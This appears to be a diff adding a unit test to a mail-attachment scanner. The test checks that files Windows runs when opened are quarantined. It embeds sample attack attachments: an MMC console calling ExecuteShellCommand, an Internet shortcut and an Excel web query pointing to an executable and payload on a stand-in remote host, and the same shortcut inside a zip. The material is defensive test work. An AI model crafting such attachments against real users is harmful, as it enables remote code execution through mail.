@@ -8,11 +8,13 @@
 # test time: TNEF byte by byte from MS-OXTNEF, BinHex by an encoder written
 # here from RFC 1741's appendix, zip files with 7zz (AES) and zip (ZipCrypto).
 
+import io
 import os
 import shutil
 import struct
 import subprocess
 import unittest
+import zipfile
 from email.message import EmailMessage
 
 from harness import SandgateCase, finding_ids, main
@@ -147,6 +149,33 @@ class MailFormats(SandgateCase):
             self.assertEqual(html["type"]["label"], "html", self.tree(rep))
             self.assertFinding(html, "html.smuggling")
             self.assertEqual(rep["verdict"], "quarantine")
+
+    # -- files that run when opened, typed as text or XML --
+
+    def test_shortcuts_and_consoles_that_run_when_opened_are_quarantined(self):
+        # Content typing sees text or XML; Windows runs them (an MMC console's
+        # script, GrimResource; an Internet shortcut to a program; an Excel web
+        # query). The shipped mail profile holds them by name, in a zip too.
+        msc = (b'<?xml version="1.0"?>\r\n<MMC_ConsoleFile ConsoleVersion="3.0">'
+               b'<StringTable><String ID="1">javascript:eval(external.ExecuteShellCommand)</String>'
+               b'</StringTable></MMC_ConsoleFile>\r\n')
+        url = b"[InternetShortcut]\r\nURL=file://198.51.100.7/share/invoice.exe\r\n"
+        iqy = b"WEB\r\n1\r\nhttps://198.51.100.7/q.txt\r\n"
+        zipped = io.BytesIO()
+        with zipfile.ZipFile(zipped, "w") as z:
+            z.writestr("docs/Invoice.url", url)
+        cases = [("console.msc", msc, "console.msc"), ("Invoice.url", url, "Invoice.url"),
+                 ("prices.iqy", iqy, "prices.iqy"), ("invoice.zip", zipped.getvalue(),
+                                                     "invoice.zip/docs/Invoice.url")]
+        for i, (name, data, blamed) in enumerate(cases):
+            rep = self.scan_mail("runs%d.eml" % i, mail("files", "Attached.\n", data, name), expect_rc=1)
+            self.assertEqual(rep["verdict"], "quarantine", self.tree(rep))
+            self.assertIn({"rule": "runs-when-opened", "object": "runs%d.eml/%s" % (i, blamed)},
+                          [{"rule": r["rule"], "object": r["object"]} for r in rep["reasons"]])
+        # A plain text attachment still passes.
+        rep = self.scan_mail("runs-text.eml", mail("notes", "Attached.\n", b"just notes\r\n", "notes.txt",
+                                                   ("text", "plain")), expect_rc=0)
+        self.assertEqual(rep["verdict"], "pass")
 
     # -- TNEF --
 
